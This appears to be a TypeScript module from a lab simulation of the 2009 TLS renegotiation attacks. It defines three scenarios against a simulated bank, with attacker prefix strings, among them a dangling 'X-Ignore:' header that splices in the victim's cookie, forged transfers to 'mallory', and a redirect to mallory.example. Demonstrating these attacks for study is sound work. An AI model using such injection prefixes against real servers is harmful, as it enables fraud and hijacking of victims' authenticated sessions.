/**
 * The three attacks of the 2009 disclosures, each as what the attacker injects
 * and what the victim innocently sends, and how the bank's log shows success.
 */
import type { BankEntry } from './bank.ts';
import { VICTIM_COOKIE } from './bank.ts';

export interface Scenario {
  id: 'client-certificate' | 'cookie-injection' | 'redirect';
  title: string;
  /** The attacker's bytes, sent in its own session before the splice. */
  prefix: string;
  /** How the victim's handshake reaches the server: as a client-initiated renegotiation, or as the answer to a HelloRequest. */
  trigger: 'client-initiated' | 'hello-request';
  /** The victim's own request. */
  victimRequest: string;
  /** The bank executed the attacker's request with the victim's credentials. */
  succeeded(log: readonly BankEntry[], victimResponse: string | undefined): boolean;
}

const HOST = 'Host: bank.lab\r\n';

export const SCENARIOS: readonly Scenario[] = [
  {
    id: 'client-certificate',
    title: '1. client certificate by server-initiated renegotiation (IIS mutual authentication)',
    // A complete request for a protected path: the bank renegotiates to ask for a certificate,
    // and the attacker answers that HelloRequest with the victim's ClientHello.
    prefix: `GET /secure/transfer?to=mallory HTTP/1.1\r\n${HOST}\r\n`,
    trigger: 'hello-request',
    victimRequest: `GET /secure/account HTTP/1.1\r\n${HOST}\r\n`,
    succeeded: (log) => log.some((e) => e.executed === 'transfer to mallory by victim'),
  },
  {
    id: 'cookie-injection',
    title: '2. client-initiated renegotiation, cookie authentication (the CSRF-like splice)',
    // No line end: the victim's request line becomes the value of X-Ignore, its Cookie authorises ours.
    prefix: `POST /transfer?to=mallory HTTP/1.1\r\n${HOST}X-Ignore: `,
    trigger: 'client-initiated',
    victimRequest: `GET / HTTP/1.1\r\n${HOST}Cookie: ${VICTIM_COOKIE}\r\n\r\n`,
    succeeded: (log) => log.some((e) => e.executed === 'transfer to mallory by victim'),
  },
  {
    id: 'redirect',
    title: "3. response diversion: the victim receives the attacker's redirect from the real server",
    prefix: `GET /secure/redirect?to=https://mallory.example/login HTTP/1.1\r\n${HOST}\r\n`,
    trigger: 'hello-request',
    victimRequest: `GET /secure/account HTTP/1.1\r\n${HOST}\r\n`,
    succeeded: (log, response) =>
      log.some((e) => e.executed === 'redirect to https://mallory.example/login for victim') &&
      (response ?? '').includes('location: https://mallory.example/login'),
  },
];
